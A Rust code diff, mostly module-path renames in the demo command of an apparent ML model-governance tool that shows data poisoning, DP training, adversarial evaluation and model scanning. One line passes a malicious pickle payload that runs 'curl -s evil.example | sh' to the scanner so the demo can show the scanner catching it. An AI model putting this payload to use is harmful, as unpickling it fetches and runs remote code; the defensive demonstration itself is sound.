@@ -1,5 +1,7 @@
 //! `warden demo`: every stage built so far, in a throwaway workspace.
 
+mod monitor;
+
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 
@@ -126,7 +128,7 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
         "4. Data: a generated credit dataset with PII and 1% flipped labels, ingested by dana",
     );
     let csv_path = dir.join("credit.csv");
-    let credit_opts = warden_data::example::CreditOptions {
+    let credit_opts = warden::table::CreditOptions {
         rows: 10_000,
         seed: 7,
         poison: 0.01,
@@ -134,7 +136,7 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
         bias: 0.3,
     };
     let mut bytes = Vec::new();
-    let flipped = warden_data::example::generate_credit(&credit_opts, &mut bytes)
+    let flipped = warden::table::generate_credit(&credit_opts, &mut bytes)
         .map_err(|e| Failure::new(exit::ERROR, format!("generating the example data: {e}")))?;
     std::fs::write(&csv_path, &bytes)
         .map_err(|e| Failure::new(exit::ERROR, format!("{}: {e}", csv_path.display())))?;
@@ -172,7 +174,7 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
             let what = match (a.entity, a.embedded.is_empty()) {
                 (Some(e), _) => e.as_str().to_string(),
                 (None, true) => "record id".to_string(),
-                (None, false) => format!("text with {}", super::data::entity_list(&a.embedded)),
+                (None, false) => format!("text with {}", crate::cmd::entity_list(&a.embedded)),
             };
             println!(
                 "pii         {:<15} {:<28} -> {}",
@@ -233,28 +235,28 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
         .map_err(|e: warden_core::NameError| Failure::new(exit::ERROR, e.to_string()))?;
     let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
     let mut trained = Vec::new();
-    let dp = warden_ml::DpConfig {
-        target: warden_ml::DpTarget::Epsilon(3.0),
+    let dp = warden::train::DpConfig {
+        target: warden::train::DpTarget::Epsilon(3.0),
         delta: 1e-5,
         max_grad_norm: 1.0,
     };
-    let lr = warden_ml::TrainConfig {
+    let lr = warden::train::TrainConfig {
         seed: 7,
-        ..warden_ml::TrainConfig::defaults(warden_ml::ModelKind::Logreg, None)
+        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Logreg, None)
     };
     // A wide MLP trained long enough to remember its training rows, and its
     // DP-SGD twin: the evaluation below shows what DP buys.
-    let mlp = warden_ml::TrainConfig {
+    let mlp = warden::train::TrainConfig {
         seed: 7,
         hidden: vec![128, 64],
         epochs: 60,
         learning_rate: 0.01,
-        ..warden_ml::TrainConfig::defaults(warden_ml::ModelKind::Mlp, None)
+        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Mlp, None)
     };
-    let mlp_dp = warden_ml::TrainConfig {
+    let mlp_dp = warden::train::TrainConfig {
         seed: 7,
         hidden: vec![128, 64],
-        ..warden_ml::TrainConfig::defaults(warden_ml::ModelKind::Mlp, Some(dp))
+        ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Mlp, Some(dp))
     };
     for (model, config) in [
         ("credit", lr),
@@ -318,7 +320,7 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
             threads,
         ))?;
         let r = &out.report;
-        let fig = |f: &warden_ml::metrics::Figure| {
+        let fig = |f: &warden::figures::Figure| {
             f.value()
                 .map_or_else(|| "undefined".to_string(), |v| format!("{v:.3}"))
         };
@@ -535,15 +537,15 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
     }
     // The scanners: the package's files (recorded; production needs a scan),
     // and, for contrast, a pickled "model" that runs a command when loaded.
-    let scan_opts = warden_scan::Options {
+    let scan_opts = warden::scanner::Options {
         digests: true,
-        ..warden_scan::Options::default()
+        ..warden::scanner::Options::default()
     };
     let scanned = sam.scan_model(&credit1, &scan_opts, &|_, _| {})?;
     let recorded = sam.record_scan(&scanned, Some(&credit1), "credit@1")?;
-    let hostile = warden_scan::scan_bytes(
+    let hostile = warden::scanner::scan_bytes(
         b"cos\nsystem\n(S'curl -s evil.example | sh'\ntR.",
-        warden_scan::Profile::Auto,
+        warden::scanner::Profile::Auto,
     );
     if !json {
         println!(
@@ -591,13 +593,13 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
         json,
         "10. A poisoned retrain: 10% flipped labels; the staging gate refuses it; an incident, rollback",
     );
-    let poisoned_opts = warden_data::example::CreditOptions {
+    let poisoned_opts = warden::table::CreditOptions {
         poison: 0.10,
         seed: 8,
         ..credit_opts.clone()
     };
     let mut bytes = Vec::new();
-    warden_data::example::generate_credit(&poisoned_opts, &mut bytes)
+    warden::table::generate_credit(&poisoned_opts, &mut bytes)
         .map_err(|e| Failure::new(exit::ERROR, format!("generating the example data: {e}")))?;
     let v2 = dana.data_ingest(warden::IngestRequest {
         name: name("credit", warden_core::ObjectName::new)?,
@@ -675,7 +677,7 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
     let fresh_ref = retrain_and_evaluate(&sam, &dataset, 11, threads)?;
     let p = sam.promote(&fresh_ref, "dev")?;
     show("promote", &p.gate);
-    let watched = super::demo_monitor::run(&dir, &opts, "dev", &fresh_ref)?;
+    let watched = monitor::run(&dir, &opts, "dev", &fresh_ref)?;
     if !json {
         for m in &watched.timeline {
             println!("  +{:>5.2}s  {}", m.at, m.what);
@@ -797,9 +799,9 @@ fn retrain_and_evaluate(
             target: None,
             features: None,
             name: name("credit", warden_core::ObjectName::new)?,
-            config: warden_ml::TrainConfig {
+            config: warden::train::TrainConfig {
                 seed,
-                ..warden_ml::TrainConfig::defaults(warden_ml::ModelKind::Logreg, None)
+                ..warden::train::TrainConfig::defaults(warden::train::ModelKind::Logreg, None)
             },
             threads,
         },
@@ -830,7 +832,7 @@ fn eval_request(
         bootstrap,
         seed: 7,
         threads,
-        attacks: vec![warden_ml::robust::Attack::PgdLinf],
+        attacks: vec![warden::figures::Attack::PgdLinf],
         decision_attack: false,
         auto_attacks: false,
         eps: vec![0.1],
